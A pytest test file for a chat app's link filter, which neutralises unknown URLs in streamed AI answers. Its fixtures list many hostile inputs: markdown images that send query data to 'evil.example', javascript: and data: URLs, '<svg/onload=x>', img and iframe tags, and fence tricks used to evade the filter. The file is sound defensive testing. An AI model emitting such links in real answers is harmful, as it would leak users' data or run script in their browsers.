"""Links in an answer: known ones stay, others are dead, however the text arrives and is written."""

import itertools

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.chat.events import SearchFinished
from app.chat.prose.links import LinkReader, in_conversation
from app.chat.request import Message
from app.dialect.neutralise import JOINER
from tests.fakes.engine import ScriptedEngine
from tests.fakes.scene import Scene, ask
from tests.fakes.search import FakeSearch, Find, passage

KNOWN = ("https://a.example/page?x=1", "http://b.example/", "https://w.example/Foo_(bar)")

KEPT = (
    "See https://a.example/page?x=1.", "[it](https://a.example/page?x=1)", "(http://b.example)",
    "![chart](https://a.example/page?x=1)", "<https://a.example/page?x=1>", "**http://b.example/**",
    "https://w.example/Foo_(bar) and (https://w.example/Foo_(bar))", "HTTP://B.example/",
    "[it](https://a.example/page?x=1#part)", "[x](#part)", "handlers[i](event)", "a[0]: b",
    "a < b, List<String>, x<y>z", "https", "www", "h", "the http protocol; ftp; w", "a://b", "[1]",
    "```\n![x](https://evil.example)\n```\nok", "```py\nfetch('https://evil.example')\n", "[a] (b)",
    "`code` and `` more ` code ``", "Source: [1], [2]. ", "note: [sic]: yes", "See [x]: Ana",
    "See [x]: /a?", "1. [ ] to do",
)  # fmt: skip

DEAD = (
    "https://evil.example/?q=secret", "See https://evil.example.", "http://evil.example",
    "[it](https://evil.example)", "![](https://evil.example/a.png?d=secret)", 
    "www.evil.example",
    "![x]( https://evil.example )", "![x](<https://evil.example>)", "![x](//evil.example/p)",
    "![x](/api/delete?id=1)", "![x](\nhttps://evil.example)", "![x](\n//evil.example)",
    "![x](https&#58;//evil.example)", "![x](data:text/html;base64,AAAA)", 
    "[x](javascript:alert(1))",
    "[x]: https://evil.example\n![a][x]", "[x]: //evil.example\n![a][x]", 
    "[x]:\n//evil.example",
    "[a\nb]: //evil.example\n![x][a b]",
    "[a\nx \\[b]: //evil.example",
    "> - [x]: //evil.example",
    "<img src=https://evil.example>", "<IMG SRC=//evil.example>", "<a href='//evil.example'>x</a>",
    "<https://evil.example>", "<javascript:alert(1)>", "<iframe src=//evil.example>", 
    "<svg/onload=x>",
    "https://a.example/page?x=1&secret", "https://a.example/page?x=12", "https://a.example/secret",
    "https://a.example@evil.example/", "https://b.example.evil.example/", "HTTPS://EVIL.example/",
    "ftp://evil.example/", "` ![x](https://evil.example) \n", "\\` ![x](https://evil.example) `",
    "- item\n  ```\n![x](https://evil.example)", 
    "> ```\n![x](https://evil.example)",
    "```a`b\n![x](https://evil.example)",
    "```\n```\n![x](https://evil.example)",
    "~~~\n![x](https://evil.example)", "text ```\n![x](//e.x)",
    "````\n```\n````\n![x](https://evil.example)", "```\r```\r![x](https://evil.example)",
    "[![x](https://evil.example)](https://a.example/page?x=1)", 
    "https://evil.example/" + "a" * 5000,
    "![x](" + " " * 3000 + "//evil.example)", "[a [b](//evil.example) c](http://b.example)",
)  # fmt: skip

RENDERS = ("](https://evil", "](//", "](/api", "](data", "](javascript", "<img", "<iframe", "<svg")


def read(text: str, *cuts: int) -> tuple[str, int]:
    reader = LinkReader(KNOWN)
    edges = [0, *sorted(cut for cut in cuts if cut < len(text)), len(text)]
    pieces = [reader.feed(text[a:b]) for a, b in itertools.pairwise(edges)]
    return "".join(pieces) + reader.finish(), reader.broken


@pytest.mark.parametrize("text", KEPT)
def test_known_links_and_other_text_stay(text: str) -> None:
    assert read(text) == (text, 0)


@pytest.mark.parametrize("text", DEAD)
def test_unknown_links_are_dead(text: str) -> None:
    shown, broken = read(text)
    assert broken
    assert shown.replace(JOINER, "") == text  # nothing is lost
    lowered = shown.lower()
    after_fences = lowered.split("```")[-1]
    assert not any(form in after_fences for form in RENDERS)
    assert "https://evil" not in after_fences
    assert "www.evil" not in after_fences


def test_no_block_of_html_hides_what_a_fence_is() -> None:
    shown, _ = read("<div>\n```\n\n![x](https://evil.example)")
    assert shown.startswith(f"<{JOINER}div>\n```\n")  # now a fence to every renderer


@given(st.sampled_from(KEPT + DEAD), st.lists(st.integers(1, 120), max_size=8))
def test_however_it_arrives(text: str, cuts: list[int]) -> None:
    assert read(text, *cuts) == read(text)


@given(st.sampled_from(KEPT + DEAD))
def test_letter_by_letter(text: str) -> None:
    assert read(text, *range(1, len(text))) == read(text)


@given(st.text(alphabet="[](<>!`:/hwtps.# \nab", max_size=60))
def test_nothing_is_lost(text: str) -> None:
    shown, _ = read(text, *range(1, len(text), 3))
    assert shown.replace(JOINER, "") == text


@pytest.mark.parametrize(
    "piece", ["<", "](", "]:", "`", "[", "![", "http://", "www.", "](<", "x]: "]
)
def test_much_of_the_same(piece: str) -> None:
    text = piece * 5000
    assert read(text, *range(100, len(text), 100))[0].replace(JOINER, "") == text


def test_plain_text_is_not_held_back() -> None:
    reader = LinkReader(())
    reader.feed("It ")
    for word in ("was ", "the ", "path ", "of ", "which ", "he ", "hopes, ", "with ", "a "):
        assert reader.feed(word) == word


def test_what_the_conversation_allows() -> None:
    messages = [
        Message("system", "Docs: https://docs.example/start."),
        Message("user", "Read (https://u.example/x), please"),
        Message("assistant", "[it](https://r.example/1) but `https://evil.example/`"),
    ]
    reader = LinkReader(in_conversation(messages))
    for url in ("https://docs.example/start", "https://u.example/x", "https://r.example/1"):
        assert reader.feed(f"see {url} ") == f"see {url} "
    assert JOINER in reader.feed("see https://evil.example/ ")


ANSWER = " Look: ![p](https://evil.example/?q=Ana) and https://harwick.example/2031 [1]."


@pytest.mark.parametrize("policy", ["auto", "never"])
async def test_an_answer_links_to_its_results_only(policy: str) -> None:
    legs = ["[SEARCH_START]harwick[SEARCH_END]", ANSWER] if policy == "auto" else [ANSWER]
    search = FakeSearch(Find((passage(),)))
    outcome = await Scene(ScriptedEngine(*legs), search).play(ask(policy=policy))
    if policy == "never":
        assert "](https://evil.example/?q=Ana)" in outcome.text
        return
    assert outcome.of(SearchFinished)[0].passages
    assert "https://harwick.example/2031 [1]" in outcome.text
    assert f"]{JOINER}(https{JOINER}://evil.example/?q=Ana)" in outcome.text


def test_a_search_in_the_middle_of_an_address_does_not_make_it_longer() -> None:
    reader = LinkReader(KNOWN)
    shown = reader.feed("see https://a.example/page?x=1") + reader.finish()
    shown += reader.feed("&q=secret") + reader.finish()
    assert shown == "see https://a.example/page?x=1 &q=secret"


@pytest.mark.parametrize(
    ("before", "after", "together"),
    [
        ("[x]", "(//evil.example)", "[x] (//evil.example)"),
        ("[x]", ": Ana", "[x] : Ana"),
        ("See [x]:", " Ana", "See [x]: Ana"),
        ("[1]", " and", "[1] and"),
        ("[1]", ".", "[1]."),
        ("htt", "ps://evil.example", "htt ps://evil.example"),
        ("[x](https://a.example/page?x=1", "2)", "[x](https://a.example/page?x=1 2)"),
        ("plain", "text", "plaintext"),
    ],
)
def test_what_a_search_divides_is_not_joined_to_a_link(
    before: str, after: str, together: str
) -> None:
    reader = LinkReader(KNOWN)
    shown = reader.feed(before) + reader.finish()
    assert shown + reader.feed(after) + reader.finish() == together
